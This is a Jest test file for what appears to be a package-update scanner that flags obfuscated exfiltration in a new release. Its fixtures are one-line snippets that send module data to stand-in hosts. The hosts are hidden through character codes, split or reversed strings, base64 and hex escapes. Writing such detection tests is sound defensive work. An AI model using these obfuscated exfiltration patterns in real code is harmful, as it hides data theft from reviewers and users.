import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const codes = (text: string) => `String.fromCharCode(${[...text].map((letter) => letter.charCodeAt(0)).join(', ')})`;
const box = (note = '') => `class Box { #it; constructor(it) { this.#it = it; ${note} } open() { return this.#it } }\nmodule.exports = Box;`;
const grade = async (after: string, before = box()) => (await gradesOf({ 'index.js': before }, { 'index.js': after })).import.grade;

describe('what is handed in goes to a new host that is written so that nobody reads it', () => {
  it.each([
    ['letters as codes', `fetch(${codes('https://kept.invalid/x')}, { headers: { 'x-ray': it } }).catch(() => {});`],
    ['pieces of the name', `const h = ['ke', 'pt.inv', 'alid']; require('https').get({ hostname: h.join(''), path: '/' + it });`],
    ['from its end', `require('https').request('dilavni.tpek//:sptth'.split('').reverse().join(''), { method: 'POST' }).end(it);`],
    ['encoded, the name alone', `fetch('https://' + atob('a2VwdC5pbnZhbGlk') + '/x', { method: 'POST', body: JSON.stringify({ it }) });`],
    ['escaped', `fetch('\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x6b\\x65\\x70\\x74\\x2e\\x69\\x6e\\x76\\x61\\x6c\\x69\\x64', { body: it });`],
    ['an address in numbers', `fetch(${codes('http://203.0.113.9/x')} + it);`],
  ])('%s', async (_, note) => {
    expect(await grade(box(note))).toBe('convicts');
  });

  it('once more than the first of a package', async () => {
    const before = box(`fetch('https://api.box.invalid', { body: it });`);
    expect(await grade(`${before}\nexports.more = (it) => fetch(${codes('https://kept.invalid')}, { body: it });`, before)).toBe('convicts');
  });

  it.each([
    ['a name that can be read, put together with others', `const name = 'kept'; fetch(\`https://\${name}.invalid/x\`, { body: it });`],
    ['parts of an address around a name', `fetch(['https:/', 'kept.invalid', 'v1'].join('/'), { body: it });`],
    ['what is decoded beside a name', `fetch('https://kept.invalid/' + atob('eC95L3o='), { body: it });`],
    ['the host of whoever calls', `fetch(String.fromCharCode(104, 116, 116, 112, 58, 47, 47) + it.host, { body: it });`],
    ['nothing that is handed in', `fetch(${codes('https://kept.invalid/x')});`],
  ])('is not %s', async (_, note) => {
    expect(await grade(box(note))).not.toBe('convicts');
  });

  it('is no news where the release before did so', async () => {
    const before = box(`fetch(${codes('https://kept.invalid/x')}, { body: it });`);
    expect(await grade(`${before}\nexports.more = 1;`, before)).toBe('none');
  });
});
